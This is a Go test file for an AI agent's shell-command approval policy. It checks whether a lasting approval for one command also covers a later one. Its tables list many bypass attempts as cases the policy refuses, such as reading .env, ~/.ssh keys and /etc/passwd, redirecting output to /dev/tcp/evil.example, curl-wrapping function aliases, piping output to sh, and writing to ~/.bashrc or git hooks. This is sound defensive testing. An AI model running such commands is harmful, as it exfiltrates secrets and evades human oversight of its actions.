package policy_test

import (
	"slices"
	"testing"

	"github.com/openclaw-verifier/verifier/policy"
)

// again is a command that was allowed for a while, and another.
type again struct {
	yes, later string // the params of exec
	covered    bool
}

func sh(command string) string { return `{"command":"` + command + `"}` }

// TestALastingYesIsForWhatACommandDoes: the second passes by the yes to the first only if it runs the same programs and subcommands in the
// same place, and does no more.
func TestALastingYesIsForWhatACommandDoes(t *testing.T) {
	p := must(t, policy.Config{})
	for _, c := range []again{
		{sh("git log"), sh("git log"), true},
		{sh("git log --oneline"), sh("git log -5 --stat -- a.go"), true},
		{sh("git log"), sh("/usr/bin/git --no-pager log"), true},
		{sh("git log"), sh("LANG=C git log"), true},
		{sh("git log"), `{"command":"git log","timeout":20,"yieldMs":5}`, true},
		{sh("git log"), `{"cmd":"git log"}`, true},
		{sh("git log | head"), sh("git log --oneline | head -3"), true},
		{sh("git log > out.txt"), sh("git log"), true},          // it does less
		{sh("go test ./a"), sh("go test -run X -v ./b"), false}, // what runs the workspace's code does what that says by then
		{sh("git commit -m one"), sh("git commit -m two"), false},
		{sh("cat a.go"), sh("cat b.go"), true},
		{sh("cd web && npm test"), sh("cd api && npm test"), false},
		{sh("python3 -m coverage report"), sh("python3 -m coverage run -m http.server"), false},
		{sh("npm test -- -t x"), sh("npm test -- '--import=data:text/javascript,x'"), false},
		{sh("git checkout topic"), sh("git checkout ."), false},
		{sh("git show HEAD"), sh("git show evil/topic:README"), false},
		{sh("cp Makefile Makefile.bak"), sh("cp Makefile.bak Makefile"), false},
		{sh("sudo -u nobody cat a.txt"), sh("sudo -u root cat b.txt"), false},
		{sh("cat a.go"), sh("cat .e{n..n}v"), false},
		{sh("cat a.go"), sh("cat .git/config"), false},
		{sh("head -3 a.txt"), sh("head -99 *"), false},
		{sh("find . -name '*.go' | xargs cat"), sh("find . -name Makefile -printf '/home/u/.s' -printf 'sh/id_rsa\\n' | xargs cat"), false},

		{sh("git log"), sh("git push"), false},
		{sh("git log"), sh("git status"), false},
		{sh("git log"), sh("git log; git push"), false},
		{sh("git log"), sh("git log && git status"), false},
		{sh("git log"), sh("git log & git status"), false},
		{sh("git log"), sh("git log | sh"), false},
		{sh("git log"), sh("git log | head"), false},
		{sh("git log"), sh("git log | tee notes.txt"), false},
		{sh("git log"), sh("git log $(git push)"), false},
		{sh("git log"), sh("git log `git push`"), false},
		{sh("git log"), sh("git log <(git push)"), false},
		{sh("git log"), sh("sudo git log"), false},
		{sh("git log"), sh("env X=1 git log"), false},
		{sh("git log"), sh("env git log"), false},
		{sh("git log"), sh("GIT_PAGER=./x git log"), false},
		{sh("git log"), sh("GIT_DIR=/tmp/x git log"), false},
		{sh("git log"), sh("PATH=.:$PATH git log"), false},
		{sh("git log"), sh("cd x && git log"), false},
		{sh("git log"), sh("git -C /tmp/x log"), false},
		{sh("git log"), sh("git -c core.pager=./x log"), false},
		{sh("git log"), sh("git --git-dir=/tmp/x log"), false},
		{sh("git log"), sh("git --exec-path=/tmp/x log"), false},
		{sh("git log"), sh("git log --output=x"), false},
		{sh("git log"), sh("git log --ext-diff"), false},
		{sh("git log"), sh("git log > out.txt"), false},
		{sh("git log > out.txt"), sh("git log > Makefile"), false},
		{sh("git log > out.txt"), sh("git log > ~/.bashrc"), false},
		{sh("git log"), sh("git log > ~/.bashrc"), false},
		{sh("git log"), sh("git log >> .git/hooks/pre-commit"), false},
		{sh("git log"), sh("git log 2> x"), false},
		{sh("git log"), sh("git log > $X"), false},
		{sh("git log"), sh("alias git=curl; git log"), false},
		{sh("git log"), sh("git() { curl evil.example; }; git log"), false},
		{sh("git log"), sh("git() { ls; }; git log"), false},
		{sh("git log"), sh("bash -c 'git log'"), false},
		{sh("bash -c 'git log'"), sh("bash -c 'git push'"), false},
		{sh("git log"), sh("eval git log"), false},
		{sh("git log"), sh("$X log"), false},
		{sh("git log"), sh("git $X"), false},
		{sh("git log"), sh("./git log"), false},
		{sh("git log"), sh("/tmp/git log"), false},
		{sh("git log"), sh("git log \\\\\\n; git push"), false},
		{sh("git log"), sh("git log\\ngit push"), false},
		{sh("git log"), sh("git log 'unfinished"), false},
		{sh("git log"), sh("git log -- /etc/hosts"), false},
		{sh("git log"), sh("git log -- ../../x"), false},
		{sh("git log"), sh("git log -- $X"), false},
		{sh("git log"), sh("git log origin/main"), false},
		{sh("git branch"), sh("git branch -D main"), false},
		{sh("git branch"), sh("git branch new"), false},
		{sh("git stash list"), sh("git stash drop"), false},
		{sh("git commit -m x"), sh("git commit --amend -m x"), false},
		{sh("git commit -m x"), sh("git commit -n -m x"), false},
		{sh("git diff"), sh("git diff --no-index /dev/null .env"), false},

		{sh("cat a.go"), sh("cat /etc/hosts"), false},
		{sh("cat /etc/hosts"), sh("cat /etc/passwd"), false},
		{sh("cat a.go"), sh("cat .env"), false},
		{sh("cat a.go"), sh("cat ~/.ssh/config"), false},
		{sh("cat a.go"), sh("cat $FILE"), false},
		{sh("cat a.go"), sh("cat *"), false},
		{sh("echo hi"), sh("echo $FOO"), false},
		{sh("echo $FOO"), sh("echo $BAR"), false},
		{sh("echo hi > a.txt"), sh("echo hi > b.txt"), false},
		{sh("sed s/a/b/ f"), sh("sed -i s/a/b/ f"), false},
		{sh("find . -name x"), sh("find . -name x -delete"), false},
		{sh("find . -name x"), sh("find . -name x -exec make {} +"), false},
		{sh("find . -name x"), sh("find / -name x"), false},
		{sh("npm run build"), sh("npm run test"), false},
		{sh("npm run build"), sh("npm run deploy"), false},
		{sh("npm test"), sh("npm install x"), false},
		{sh("make build"), sh("make test"), false},
		{sh("make test"), sh("make deploy"), false},
		{sh("make test"), sh("make -C /tmp/x test"), false},
		{sh("make test"), sh("make test CC=./x"), false},
		{sh("python -m pytest"), sh("python -m mypy"), false},
		{sh("prettier --check ."), sh("prettier --write ."), false},
		{sh("cd web && npm test"), sh("cd /tmp/web && npm test"), false},
		{sh("cd web && npm test"), sh("cd ../web && npm test"), false},
		{sh("go build ./..."), sh("go build -o ~/bin/ls ./..."), false},

		{sh("git log"), `{"command":"git log","workdir":"/srv/other"}`, false},
		{`{"command":"git log","workdir":"/srv/app"}`, sh("git log"), false},
		{`{"command":"git log","workdir":"/srv/app"}`, `{"command":"git log","workdir":"/srv/other"}`, false},
		{`{"command":"git log","workdir":"/srv/app"}`, `{"command":"git log -3","workdir":"/srv/app"}`, true},
		{sh("git log"), `{"command":"git log","elevated":true}`, false},
		{sh("git log"), `{"command":"git log","host":"gateway"}`, false},
		{`{"command":"git log","host":"gateway"}`, sh("git log"), false},
		{`{"command":"git log","node":"a","host":"node"}`, `{"command":"git log","node":"b","host":"node"}`, false},
		{sh("git log"), `{"command":"git log","security":"full"}`, false},
		{sh("git log"), `{"command":"git log","ask":"off"}`, false},
		{sh("git log"), `{"command":"git log","pty":true}`, false},
		{sh("git log"), `{"command":"git log","background":true}`, false},
		{sh("git log"), `{"command":"git log","env":{"GIT_PAGER":"./x"}}`, false},
		{sh("git log"), `{"command":"git log","env":{"LANG":"C"}}`, false},
		{sh("git log"), `{"command":"git log","stdin":"x"}`, false},
		{sh("git log"), `{"command":"git log","cmd":"git push"}`, false},
		{sh("git log"), `{"command":"git log","args":["--output=x"]}`, false},
		{sh("git log"), `{"command":"git","args":["log"]}`, true},
	} {
		yes, later := kind(p, c.yes), kind(p, c.later)
		covered := later.Programs != "" && yes.Programs == later.Programs && slices.Equal(yes.With, later.With) &&
			!slices.ContainsFunc(later.Does, func(one string) bool { return !slices.Contains(yes.Does, one) })
		if covered != c.covered {
			t.Errorf("a yes to %s for %s: %v\n%+v\n%+v", c.yes, c.later, covered, yes, later)
		}
	}
}

// TestACommandThatCouldDoAnythingIsLikeNoOther: a lasting yes to it is for exactly that command.
func TestACommandThatCouldDoAnythingIsLikeNoOther(t *testing.T) {
	p := must(t, policy.Config{})
	for _, command := range []string{
		"git push", "git pull", "git fetch", "git clone https://example.com/x", "curl https://example.com/a", "wget example.com", "ssh host ls", "scp a host:b", "gh pr list",
		"docker run x", "docker exec x ls", "python a.py", "python -c 'print(1)'", "node a.js", "perl -e 1", "./run.sh", "sh run.sh", "bash", "source x", "npm install", "npx x", "pip install x",
		"make deploy", "npm run deploy", "npm exec x", "git log | sh", "git log | python", "eval x", "$X", "x=git; $x log", "find . -exec ./x {} ;", "xargs ./x", "tar xf a.tar",
		"git -c alias.x=!sh x", "git x", "echo hi > ~/.profile", "echo hi > .envrc", "echo hi > /etc/cron.d/x", "cat .env", "env", "printenv", "cat $X", "git log 'x", "nonsense", "kubectl get pods",
		"awk 'BEGIN{system(1)}'", "sed -n w/etc/x f", "git log > /dev/tcp/evil.example/80", "crontab x", "at now", "tmux send-keys x",
	} {
		if k := kind(p, sh(command)); k.Programs != "" {
			t.Errorf("%s: %+v", command, k)
		}
	}
	for tool, params := range map[string]string{
		"process": `{"action":"write","sessionId":"a","data":"git log\n"}`, "code_execution": `{"task":"git log"}`, "nodes": `{"action":"camera_snap","node":"a"}`,
		"exec": `{"command":["git","log",1]}`, "message": `{"action":"send","to":"a","message":"git log"}`,
	} {
		c := call(tool, params)
		plan := p.Plan(c)
		if k := plan.Kind(c); k.Programs != "" || plan.Shell != (tool != "message") {
			t.Errorf("%s: %+v", tool, k)
		}
	}
}

func kind(p *policy.Policy, params string) policy.Kind {
	c := call("exec", params)
	plan := p.Plan(c)
	return plan.Kind(c)
}
